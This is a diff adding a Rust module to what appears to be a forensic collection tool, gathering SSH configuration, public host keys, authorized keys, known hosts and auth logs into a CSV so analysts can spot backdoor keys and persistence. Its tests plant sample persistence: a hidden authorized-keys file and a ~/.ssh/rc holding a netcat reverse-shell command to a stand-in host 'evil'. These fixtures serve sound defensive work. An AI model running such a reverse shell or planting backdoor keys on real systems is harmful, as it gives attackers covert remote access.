@@ -0,0 +1,595 @@
+// SSH configuration, authorized keys and known hosts of all users, to spot backdoor keys
+use chrono::{DateTime, Utc};
+use config::workflow::SshArtifactsAttributes;
+use crypto::ssh_key_fingerprint;
+use log::{debug, error, info, warn};
+use serde::Serialize;
+use std::{
+    collections::BTreeSet,
+    fs::{self, File},
+    io::ErrorKind,
+    path::{Path, PathBuf},
+};
+use storage::FileProcessor;
+use system::profiles::{get_user_profiles, UserProfile};
+use utils::{age::AgeFilter, misc::iter_files_by_pattern};
+
+use super::{error_result, ActionOptions, ActionResult};
+
+#[cfg(target_os = "windows")]
+const SSH_CONFIG_DIR: &str = "C:\\ProgramData\\ssh";
+#[cfg(not(target_os = "windows"))]
+const SSH_CONFIG_DIR: &str = "/etc/ssh";
+
+#[cfg(target_os = "windows")]
+const AUTH_LOG_PATTERNS: [&str; 1] = ["C:\\ProgramData\\ssh\\logs\\*"];
+#[cfg(not(target_os = "windows"))]
+const AUTH_LOG_PATTERNS: [&str; 2] = ["/var/log/auth.log*", "/var/log/secure*"];
+
+// used by sshd if AuthorizedKeysFile is not set
+const DEFAULT_AUTHORIZED_KEYS: [&str; 2] = [".ssh/authorized_keys", ".ssh/authorized_keys2"];
+const KNOWN_HOSTS: [&str; 2] = [".ssh/known_hosts", ".ssh/known_hosts2"];
+// executed by sshd on login, a known persistence mechanism
+const USER_FILES: [&str; 2] = [".ssh/config", ".ssh/rc"];
+
+const KIND_AUTHORIZED_KEY: &str = "authorized_key";
+const KIND_KNOWN_HOST: &str = "known_host";
+const KIND_HOST_KEY: &str = "host_key";
+
+/// One row of the resulting csv file
+#[derive(Debug, Default, Clone, Serialize, PartialEq)]
+pub struct SshKeyEntry {
+    // authorized_key, known_host or host_key
+    pub kind: String,
+    pub user: String,
+    pub file: String,
+    pub line: usize,
+    pub key_type: String,
+    pub fingerprint: String,
+    pub comment: String,
+    // options of an authorized key (e.g. command="..."), marker of a known host (e.g. @revoked)
+    pub options: String,
+    pub hosts: String,
+    pub modified: String,
+    pub permissions: String,
+}
+
+fn is_key_type(token: &str) -> bool {
+    matches!(
+        token,
+        "ssh-rsa"
+            | "ssh-dss"
+            | "ssh-ed25519"
+            | "ssh-ed448"
+            | "ecdsa-sha2-nistp256"
+            | "ecdsa-sha2-nistp384"
+            | "ecdsa-sha2-nistp521"
+    ) || (token.ends_with("@openssh.com")
+        && ["ssh-", "sk-", "ecdsa-"]
+            .iter()
+            .any(|prefix| token.starts_with(prefix)))
+}
+
+/// Splits at whitespace outside of double quotes, e.g. the options command="echo a b"
+fn split_tokens(line: &str) -> Vec<String> {
+    let mut tokens = vec![];
+    let mut token = String::new();
+    let mut quoted = false;
+    let mut escaped = false;
+    for c in line.chars() {
+        match c {
+            _ if escaped => escaped = false,
+            '\\' => escaped = true,
+            '"' => quoted = !quoted,
+            c if c.is_whitespace() && !quoted => {
+                if !token.is_empty() {
+                    tokens.push(std::mem::take(&mut token));
+                }
+                continue;
+            }
+            _ => {}
+        }
+        token.push(c);
+    }
+    if !token.is_empty() {
+        tokens.push(token);
+    }
+    tokens
+}
+
+/// Parses a line of authorized_keys or known_hosts into the tokens before the key type,
+/// the key entry and the comment
+fn parse_key_line(line: &str) -> Option<(Vec<String>, SshKeyEntry)> {
+    let line = line.trim();
+    if line.is_empty() || line.starts_with('#') {
+        return None;
+    }
+    let tokens = split_tokens(line);
+    let position = tokens.iter().position(|token| is_key_type(token))?;
+    let key = tokens.get(position + 1).map(String::as_str).unwrap_or("");
+    let entry = SshKeyEntry {
+        key_type: tokens[position].clone(),
+        fingerprint: ssh_key_fingerprint(key).unwrap_or_default(),
+        comment: tokens
+            .get(position + 2..)
+            .map(|comment| comment.join(" "))
+            .unwrap_or_default(),
+        ..Default::default()
+    };
+    Some((tokens[..position].to_vec(), entry))
+}
+
+/// Parses authorized_keys: [options] keytype base64-key [comment]
+pub fn parse_authorized_keys(content: &str) -> Vec<SshKeyEntry> {
+    content
+        .lines()
+        .enumerate()
+        .filter_map(|(index, line)| {
+            let (prefix, mut entry) = parse_key_line(line)?;
+            entry.kind = KIND_AUTHORIZED_KEY.to_string();
+            entry.line = index + 1;
+            entry.options = prefix.join(" ");
+            Some(entry)
+        })
+        .collect()
+}
+
+/// Parses known_hosts: [@marker] hostnames keytype base64-key [comment].
+/// Hashed hostnames (|1|...) are kept as they are
+pub fn parse_known_hosts(content: &str) -> Vec<SshKeyEntry> {
+    content
+        .lines()
+        .enumerate()
+        .filter_map(|(index, line)| {
+            let (mut prefix, mut entry) = parse_key_line(line)?;
+            entry.kind = KIND_KNOWN_HOST.to_string();
+            entry.line = index + 1;
+            if prefix.first().is_some_and(|token| token.starts_with('@')) {
+                entry.options = prefix.remove(0);
+            }
+            entry.hosts = prefix.join(" ");
+            Some(entry)
+        })
+        .collect()
+}
+
+/// The values of all AuthorizedKeysFile directives (including those inside Match blocks,
+/// which may be used to hide an additional file). The defaults if there is none
+pub fn authorized_keys_files(sshd_config: &str) -> Vec<String> {
+    let mut files: Vec<String> = vec![];
+    for line in sshd_config.lines() {
+        let tokens = split_tokens(line.trim());
+        match tokens.split_first() {
+            Some((keyword, values)) if keyword.eq_ignore_ascii_case("AuthorizedKeysFile") => {
+                for value in values {
+                    let value = value.trim_matches('"').to_string();
+                    if value != "none" && !files.contains(&value) {
+                        files.push(value);
+                    }
+                }
+            }
+            _ => {}
+        }
+    }
+    if files.is_empty() {
+        files = DEFAULT_AUTHORIZED_KEYS
+            .iter()
+            .map(|f| f.to_string())
+            .collect();
+    }
+    files
+}
+
+/// Expands the tokens of sshd (%h, %u, %U, %%, ~). Relative paths are relative to the home directory
+pub fn expand_user_path(path: &str, user: &UserProfile) -> PathBuf {
+    let home = user.home.to_string_lossy();
+    let path = path.replace("__PROGRAMDATA__", "C:/ProgramData");
+    let path = match path.strip_prefix("~/") {
+        Some(rest) => format!("%h/{}", rest),
+        None => path,
+    };
+    let mut expanded = String::new();
+    let mut chars = path.chars();
+    while let Some(c) = chars.next() {
+        if c != '%' {
+            expanded.push(c);
+            continue;
+        }
+        match chars.next() {
+            Some('h') => expanded.push_str(&home),
+            Some('u') => expanded.push_str(&user.name),
+            Some('U') => expanded.push_str(&user.id),
+            Some(other) => expanded.push(other),
+            None => expanded.push('%'),
+        }
+    }
+    let expanded = PathBuf::from(expanded);
+    match expanded.is_absolute() {
+        true => expanded,
+        false => user.home.join(expanded),
+    }
+}
+
+fn file_details(path: &Path) -> (String, String) {
+    let metadata = match path.metadata() {
+        Ok(metadata) => metadata,
+        Err(_) => return (String::new(), String::new()),
+    };
+    let modified = metadata
+        .modified()
+        .map(|time| DateTime::<Utc>::from(time).to_rfc3339())
+        .unwrap_or_default();
+    #[cfg(unix)]
+    let permissions = {
+        use std::os::unix::fs::PermissionsExt;
+        format!("{:o}", metadata.permissions().mode() & 0o7777)
+    };
+    #[cfg(not(unix))]
+    let permissions = match metadata.permissions().readonly() {
+        true => "readonly".to_string(),
+        false => String::new(),
+    };
+    (modified, permissions)
+}
+
+/// Everything found in the ssh configuration directory and the home directories
+#[derive(Debug, Default)]
+pub struct CollectedArtifacts {
+    pub entries: Vec<SshKeyEntry>,
+    // configuration and public key files, private keys are never included
+    pub files: BTreeSet<PathBuf>,
+    pub errors: Vec<String>,
+}
+
+impl CollectedArtifacts {
+    // Missing files are expected, everything else is reported
+    fn read(&mut self, path: &Path) -> Option<String> {
+        match fs::read(path) {
+            Ok(content) => {
+                self.files.insert(path.to_path_buf());
+                Some(String::from_utf8_lossy(&content).to_string())
+            }
+            Err(e) if e.kind() == ErrorKind::NotFound => None,
+            Err(e) => {
+                self.errors
+                    .push(format!("Failed to read {:?}: {}", path.display(), e));
+                None
+            }
+        }
+    }
+
+    fn add_entries(&mut self, path: &Path, user: &str, entries: Vec<SshKeyEntry>) {
+        let (modified, permissions) = file_details(path);
+        for mut entry in entries {
+            entry.user = user.to_string();
+            entry.file = path.to_string_lossy().to_string();
+            entry.modified = modified.clone();
+            entry.permissions = permissions.clone();
+            self.entries.push(entry);
+        }
+    }
+
+    fn glob(&mut self, pattern: &Path) -> Vec<PathBuf> {
+        match iter_files_by_pattern(&pattern.to_string_lossy(), !cfg!(target_os = "windows")) {
+            Ok(files) => files.collect(),
+            Err(e) => {
+                self.errors
+                    .push(format!("Invalid pattern {:?}: {}", pattern.display(), e));
+                vec![]
+            }
+        }
+    }
+
+    pub fn collect(config_dir: &Path, users: &[UserProfile]) -> Self {
+        let mut artifacts = CollectedArtifacts::default();
+
+        // Step 1: Configuration of the server and the client
+        let mut sshd_config = String::new();
+        let config_patterns = [
+            "sshd_config",
+            "sshd_config.d/*",
+            "ssh_config",
+            "ssh_config.d/*",
+            "sshrc",
+        ];
+        for pattern in config_patterns {
+            for file in artifacts.glob(&config_dir.join(pattern)) {
+                let content = artifacts.read(&file);
+                if pattern.starts_with("sshd_config") {
+                    sshd_config.push_str(&content.unwrap_or_default());
+                    sshd_config.push('\n');
+                }
+            }
+        }
+
+        // Step 2: Host keys, only the public part is read
+        for file in artifacts.glob(&config_dir.join("ssh_host_*_key.pub")) {
+            if let Some(content) = artifacts.read(&file) {
+                let mut entries = parse_authorized_keys(&content);
+                entries
+                    .iter_mut()
+                    .for_each(|entry| entry.kind = KIND_HOST_KEY.to_string());
+                artifacts.add_entries(&file, "", entries);
+            }
+        }
+        // OpenSSH on Windows reads the keys of all administrators from this file
+        let administrators_keys = config_dir.join("administrators_authorized_keys");
+        if let Some(content) = artifacts.read(&administrators_keys) {
+            artifacts.add_entries(
+                &administrators_keys,
+                "Administrators",
+                parse_authorized_keys(&content),
+            );
+        }
+        let global_known_hosts = config_dir.join("ssh_known_hosts");
+        if let Some(content) = artifacts.read(&global_known_hosts) {
+            artifacts.add_entries(&global_known_hosts, "", parse_known_hosts(&content));
+        }
+
+        // Step 3: Authorized keys and known hosts of every user
+        let authorized_keys = authorized_keys_files(&sshd_config);
+        for user in users {
+            for path in &authorized_keys {
+                // absolute paths are shared by all users
+                let file = expand_user_path(path, user);
+                if artifacts.files.contains(&file) {
+                    continue;
+                }
+                if let Some(content) = artifacts.read(&file) {
+                    artifacts.add_entries(&file, &user.name, parse_authorized_keys(&content));
+                }
+            }
+            for path in KNOWN_HOSTS {
+                let file = user.home.join(path);
+                if let Some(content) = artifacts.read(&file) {
+                    artifacts.add_entries(&file, &user.name, parse_known_hosts(&content));
+                }
+            }
+            for path in USER_FILES {
+                artifacts.read(&user.home.join(path));
+            }
+        }
+        artifacts
+    }
+}
+
+pub struct SshArtifacts {}
+
+impl SshArtifacts {
+    pub fn run(
+        attributes: SshArtifactsAttributes,
+        options: ActionOptions,
+        out_file: PathBuf,
+        file_processor: &mut FileProcessor,
+    ) -> ActionResult {
+        let users = get_user_profiles();
+        let artifacts = CollectedArtifacts::collect(Path::new(SSH_CONFIG_DIR), &users);
+        let mut errors = artifacts.errors;
+
+        let mut files: Vec<PathBuf> = vec![];
+        if attributes.store_raw {
+            files.extend(artifacts.files);
+        }
+        if attributes.auth_logs {
+            let within = (attributes.log_days as i64 * 24 * 60 * 60).min(i32::MAX as i64) as i32;
+            let age_filter = AgeFilter::new(within, "").unwrap_or_default();
+            for pattern in AUTH_LOG_PATTERNS {
+                for file in iter_files_by_pattern(pattern, !cfg!(target_os = "windows"))
+                    .into_iter()
+                    .flatten()
+                {
+                    if age_filter.allows(&file) {
+                        files.push(file);
+                    }
+                }
+            }
+        }
+        for file in &files {
+            if let Err(e) = file_processor.store(file, None) {
+                errors.push(format!("Error storing file {:?}: {}", file.display(), e));
+            }
+        }
+
+        let authorized = artifacts
+            .entries
+            .iter()
+            .filter(|entry| entry.kind == KIND_AUTHORIZED_KEY)
+            .count();
+        info!(
+            "Found {} authorized keys and {} other SSH keys",
+            authorized,
+            artifacts.entries.len() - authorized
+        );
+        for error in &errors {
+            warn!("{}", error);
+        }
+
+        let file = match File::create(&out_file) {
+            Ok(file) => file,
+            Err(e) => {
+                error!("Error creating file {:?}: {}", out_file.display(), e);
+                return error_result!(
+                    format!("Error creating file {:?}: {}", out_file.display(), e),
+                    options.start_time
+                );
+            }
+        };
+        let mut writer = csv::Writer::from_writer(file);
+        for entry in &artifacts.entries {
+            if let Err(e) = writer.serialize(entry) {
+                return error_result!(
+                    format!("Error writing file {:?}: {}", out_file.display(), e),
+                    options.start_time
+                );
+            }
+        }
+        if let Err(e) = writer.flush() {
+            return error_result!(
+                format!("Error writing file {:?}: {}", out_file.display(), e),
+                options.start_time
+            );
+        }
+        debug!("Wrote SSH keys to {:?}", out_file.display());
+
+        let result = ActionResult {
+            success: errors.is_empty(),
+            exit_code: Some(0),
+            execution_time: options.start_time.elapsed(),
+            error_message: match errors.is_empty() {
+                true => None,
+                false => Some(errors.join("; ")),
+            },
+            parallel: false,
+            finished: true,
+            error_category: None,
+            ..Default::default()
+        };
+        result
+            .with_items(artifacts.entries.len() as u64)
+            .with_artifact(out_file)
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use utils::tests::Cleanup;
+
+    const KEY: &str = "AAAAC3NzaC1lZDI1NTE5AAAAIAcgPTFcrTFy5PabeCS9tjgQr/rvyZC24/Vb9KHLHu/W";
+    const FINGERPRINT: &str = "SHA256:revxAa6oCS/N+BXbfaIf/sHromUjjvtUJg1q0LdgPGI";
+
+    #[test]
+    fn test_parse_authorized_keys() {
+        let content = format!(
+            "# comment\n\nssh-ed25519 {key} alice@laptop\ncommand=\"/bin/sh -c 'id'\",no-pty ssh-ed25519 {key}\nssh-rsa\n",
+            key = KEY
+        );
+        let entries = parse_authorized_keys(&content);
+        assert_eq!(entries.len(), 3);
+        assert_eq!(entries[0].line, 3);
+        assert_eq!(entries[0].key_type, "ssh-ed25519");
+        assert_eq!(entries[0].fingerprint, FINGERPRINT);
+        assert_eq!(entries[0].comment, "alice@laptop");
+        assert_eq!(entries[0].options, "");
+        // quoted options may contain spaces
+        assert_eq!(entries[1].options, "command=\"/bin/sh -c 'id'\",no-pty");
+        assert_eq!(entries[1].comment, "");
+        // a broken key is listed without a fingerprint
+        assert_eq!(entries[2].fingerprint, "");
+    }
+
+    #[test]
+    fn test_parse_known_hosts() {
+        let content = format!(
+            "ssh-gw,10.0.0.1 ssh-ed25519 {key}\n@revoked |1|abc=|def= ecdsa-sha2-nistp256 {key} old\n",
+            key = KEY
+        );
+        let entries = parse_known_hosts(&content);
+        assert_eq!(entries.len(), 2);
+        assert_eq!(entries[0].hosts, "ssh-gw,10.0.0.1");
+        assert_eq!(entries[0].kind, KIND_KNOWN_HOST);
+        assert_eq!(entries[1].options, "@revoked");
+        assert_eq!(entries[1].hosts, "|1|abc=|def=");
+        assert_eq!(entries[1].comment, "old");
+    }
+
+    #[test]
+    fn test_authorized_keys_files() {
+        assert_eq!(
+            authorized_keys_files("#AuthorizedKeysFile .ssh/other\n"),
+            DEFAULT_AUTHORIZED_KEYS
+        );
+        let config = "AuthorizedKeysFile .ssh/authorized_keys\nMatch User backup\n  authorizedkeysfile /var/lib/%u/keys .ssh/authorized_keys\n";
+        assert_eq!(
+            authorized_keys_files(config),
+            vec![".ssh/authorized_keys", "/var/lib/%u/keys"]
+        );
+
+        let user = UserProfile {
+            name: "backup".to_string(),
+            home: PathBuf::from("/home/backup"),
+            id: "1001".to_string(),
+            last_logon: None,
+        };
+        assert_eq!(
+            expand_user_path("/var/lib/%u/%U/keys", &user),
+            PathBuf::from("/var/lib/backup/1001/keys")
+        );
+        assert_eq!(
+            expand_user_path(".ssh/authorized_keys", &user),
+            PathBuf::from("/home/backup/.ssh/authorized_keys")
+        );
+        assert_eq!(
+            expand_user_path("~/keys", &user),
+            PathBuf::from("/home/backup/keys")
+        );
+    }
+
+    #[test]
+    fn test_collect_ssh_artifacts() {
+        let mut cleanup = Cleanup::new();
+        let dir = cleanup.tmp_dir("test_collect_ssh_artifacts");
+        let config_dir = dir.join("ssh");
+        let home = dir.join("alice");
+        fs::create_dir_all(config_dir.join("sshd_config.d")).unwrap();
+        fs::create_dir_all(home.join(".ssh")).unwrap();
+
+        fs::write(
+            config_dir.join("sshd_config.d").join("backdoor.conf"),
+            "AuthorizedKeysFile .ssh/authorized_keys .cache/keys\n",
+        )
+        .unwrap();
+        fs::write(config_dir.join("ssh_host_ed25519_key"), "private").unwrap();
+        fs::write(
+            config_dir.join("ssh_host_ed25519_key.pub"),
+            format!("ssh-ed25519 {} root@host\n", KEY),
+        )
+        .unwrap();
+        fs::create_dir_all(home.join(".cache")).unwrap();
+        fs::write(
+            home.join(".cache").join("keys"),
+            format!("ssh-ed25519 {} hidden\n", KEY),
+        )
+        .unwrap();
+        fs::write(
+            home.join(".ssh").join("known_hosts"),
+            format!("example.com ssh-ed25519 {}\n", KEY),
+        )
+        .unwrap();
+        fs::write(home.join(".ssh").join("rc"), "nc -e /bin/sh evil 4444\n").unwrap();
+
+        let user = UserProfile {
+            name: "alice".to_string(),
+            home: home.clone(),
+            id: "1000".to_string(),
+            last_logon: None,
+        };
+        let artifacts = CollectedArtifacts::collect(&config_dir, &[user]);
+        assert!(artifacts.errors.is_empty(), "{:?}", artifacts.errors);
+
+        let kinds: Vec<(&str, &str)> = artifacts
+            .entries
+            .iter()
+            .map(|entry| (entry.kind.as_str(), entry.user.as_str()))
+            .collect();
+        assert_eq!(
+            kinds,
+            vec![
+                (KIND_HOST_KEY, ""),
+                (KIND_AUTHORIZED_KEY, "alice"),
+                (KIND_KNOWN_HOST, "alice"),
+            ]
+        );
+        assert_eq!(artifacts.entries[1].comment, "hidden");
+        assert!(!artifacts.entries[1].modified.is_empty());
+
+        // the private host key is never collected
+        assert!(!artifacts
+            .files
+            .contains(&config_dir.join("ssh_host_ed25519_key")));
+        assert!(artifacts
+            .files
+            .contains(&config_dir.join("ssh_host_ed25519_key.pub")));
+        assert!(artifacts.files.contains(&home.join(".ssh").join("rc")));
+    }
+}